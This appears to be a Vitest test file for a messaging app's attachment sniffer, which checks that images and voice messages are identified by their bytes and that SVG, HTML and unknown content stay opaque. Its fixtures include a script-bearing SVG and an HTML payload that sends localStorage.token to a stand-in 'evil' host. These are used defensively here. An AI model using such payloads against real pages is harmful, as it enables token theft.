import { describe, expect, it } from 'vitest';
import { OPAQUE_TYPE, isInlineMedia, safeMediaType } from '../src/attachments/sniff.js';

const bytes = (...parts: (string | number[])[]): Uint8Array =>
  Uint8Array.from(parts.flatMap((p) => (typeof p === 'string' ? [...p].map((c) => c.charCodeAt(0)) : p)));

describe('what an attachment is shown as', () => {
  it('[ATTACH-4] raster images are recognised by their bytes whatever the sender declared', () => {
    expect(safeMediaType('image', bytes([0x89], 'PNG', [0x0d, 0x0a, 0x1a, 0x0a], 'rest'))).toBe('image/png');
    expect(safeMediaType('image', bytes([0xff, 0xd8, 0xff, 0xe0], 'JFIF'))).toBe('image/jpeg');
    expect(safeMediaType('image', bytes('GIF89a', [1, 0, 1, 0]))).toBe('image/gif');
    expect(safeMediaType('image', bytes('RIFF', [0, 0, 0, 0], 'WEBPVP8 '))).toBe('image/webp');
  });

  it('[ATTACH-4] SVG, HTML and anything unknown sent as an image or a voice message are opaque bytes, never inline', () => {
    const svg = bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const html = bytes('<!doctype html><script>fetch("//evil/"+localStorage.token)</script>');
    for (const kind of ['image', 'voice', 'file']) {
      expect(safeMediaType(kind, svg)).toBe(OPAQUE_TYPE);
      expect(safeMediaType(kind, html)).toBe(OPAQUE_TYPE);
      expect(safeMediaType(kind, new Uint8Array())).toBe(OPAQUE_TYPE);
    }
    expect(isInlineMedia(safeMediaType('image', svg))).toBe(false);
    // A real PNG sent as a file is still a file: only the message's kind decides what may be inline.
    expect(safeMediaType('file', bytes([0x89], 'PNG', [0x0d, 0x0a, 0x1a, 0x0a]))).toBe(OPAQUE_TYPE);
    // Audio bytes do not pass as an image, nor images as audio.
    expect(safeMediaType('image', bytes('OggS', [0, 2]))).toBe(OPAQUE_TYPE);
    expect(safeMediaType('voice', bytes([0xff, 0xd8, 0xff, 0xe0]))).toBe(OPAQUE_TYPE);
  });

  it('[ATTACH-4] voice messages play only from audio containers', () => {
    expect(safeMediaType('voice', bytes('OggS', [0, 2, 0, 0]))).toBe('audio/ogg');
    expect(safeMediaType('voice', bytes([0x1a, 0x45, 0xdf, 0xa3, 0x9f]))).toBe('audio/webm');
    expect(safeMediaType('voice', bytes([0, 0, 0, 0x20], 'ftypM4A '))).toBe('audio/mp4');
    expect(safeMediaType('voice', bytes('RIFF', [0, 0, 0, 0], 'WAVEfmt '))).toBe('audio/wav');
    expect(safeMediaType('voice', bytes('ID3', [4, 0]))).toBe('audio/mpeg');
    expect(safeMediaType('voice', bytes([0xff, 0xf1, 0x50, 0x80]))).toBe('audio/aac');
  });
});
